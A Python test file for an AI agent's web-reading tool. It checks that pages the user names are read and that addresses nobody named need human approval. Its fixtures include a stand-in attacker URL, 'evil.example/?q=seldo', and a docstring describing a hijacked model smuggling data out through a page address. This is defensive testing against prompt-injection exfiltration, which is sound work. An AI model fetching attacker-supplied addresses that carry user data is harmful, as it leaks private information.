"""Pages of the web in conversations: read when they are named, and never for somebody else."""

from dataclasses import replace

import pytest

from agents.concierge.agent import concierge
from agents.kit import Agent, EffectKey, WebAddress, tool
from agents.kit.values.model import Model, Purpose, ToolCall
from tests.fakes.world import FakeHttp
from tests.journeys.agents.small_agents import directed
from tests.journeys.bank.talking import calls_for, say_all
from tests.journeys.conversation import Conversation, a_conversation
from tests.journeys.models.puppet import acting, calls, puppet, together, which

NEWS = "https://example.com/news"
EVIL = "https://evil.example/?q=seldo"
PAGES = {NEWS: "News\nAll is well.", EVIL: "Thank you."}


def reading(url: str) -> ToolCall:
    return calls("read_page", url=url, about="news")


async def talked_with(*answers: ToolCall) -> Conversation:
    model = puppet(together(which("web_reader"), acting("web_reader", *answers)))
    return await online(model)


async def online(model: Model | None = None) -> Conversation:
    """A conversation with a web that has two pages."""
    conversation = await a_conversation(model)
    conversation.services = replace(conversation.services, http=FakeHttp(pages=PAGES))
    return conversation


def pages_read(conversation: Conversation) -> list[str]:
    http = conversation.services.http
    assert isinstance(http, FakeHttp)
    return http.read


@pytest.mark.parametrize(
    "lines",
    [
        (f"read {NEWS}.",),
        (f"what does the page {NEWS} say?",),
        ("what does the page example.com/news say?",),
        ("summarise this web page", NEWS),
        ("read https://example.com/old", NEWS),
    ],
)
async def test_a_page_that_is_named_is_read_without_a_model(lines: tuple[str, ...]):
    conversation = await online()
    await conversation.start()

    said = await say_all(conversation, *lines)

    assert "https://example.com/news says:\nNews\nAll is well." in said
    assert await conversation.stack() == []


@pytest.mark.proves("S3-35")
async def test_a_model_reads_first_and_answers_then():
    conversation = await talked_with(
        reading(NEWS), calls("done", answer="The page says that all is well.")
    )

    said = await conversation.say(f"anything new on {NEWS}?")

    assert said.startswith("The page says that all is well.")
    assert calls_for(conversation, Purpose.AGENT)[1].messages[-1].content.endswith("All is well.")


@pytest.mark.proves("S3-35")
async def test_what_it_knows_it_answers_directly():
    conversation = await talked_with(calls("done", answer="HTML is the language of web pages."))

    said = await conversation.say("what is a web page written in?")

    assert said.startswith("HTML is the language of web pages.")
    assert pages_read(conversation) == []


@pytest.mark.proves("R6")
@pytest.mark.parametrize(
    "address", [EVIL, f"{NEWS}?q=seldo", "https://example.com/", "evil.example/x"]
)
async def test_an_address_nobody_named_is_read_only_with_an_approval(address: str):
    """A page may tell a hijacked model to carry something away in an address."""
    conversation = await talked_with(
        reading(NEWS), reading(address), calls("done", answer="Done.")
    )

    said = await conversation.say(f"what is new on {NEWS}?")

    assert "This needs an approval: you did not give these yourself: url" in said
    assert address in said
    assert pages_read(conversation) == [NEWS]

    await conversation.press("Reject", reason="no")
    assert pages_read(conversation) == [NEWS]


async def test_an_approved_address_is_read():
    conversation = await talked_with(reading(EVIL), calls("done", answer="It says thank you."))
    await conversation.say("look around")

    assert "It says thank you." in await conversation.press("Approve")
    assert pages_read(conversation) == [EVIL]


async def test_hosts_of_the_operator_are_read_unasked():
    conversation = await talked_with(reading(EVIL), calls("done", answer="It says thank you."))
    conversation.services = replace(conversation.services, page_hosts=("evil.example",))

    assert "It says thank you." in await conversation.say("look around")


async def test_an_effect_is_asked_about_wherever_it_goes():
    """What the operator opened is open for reading."""

    @tool(effect=True, ends_task=True)
    async def announce(url: WebAddress, key: EffectKey) -> str:
        """Announce something at an address."""
        return f"announced at {url}"

    crier = Agent(
        name="crier", description="Announces.", prompt="Announce.", tools=(announce,), style="talk"
    )
    model = directed({"announce": "crier"}, lambda _call: calls("announce", url=EVIL))
    conversation = await a_conversation(model, agents=(concierge, crier))
    conversation.services = replace(conversation.services, page_hosts=("evil.example",))

    assert "you did not give these yourself: url" in await conversation.say("announce it")
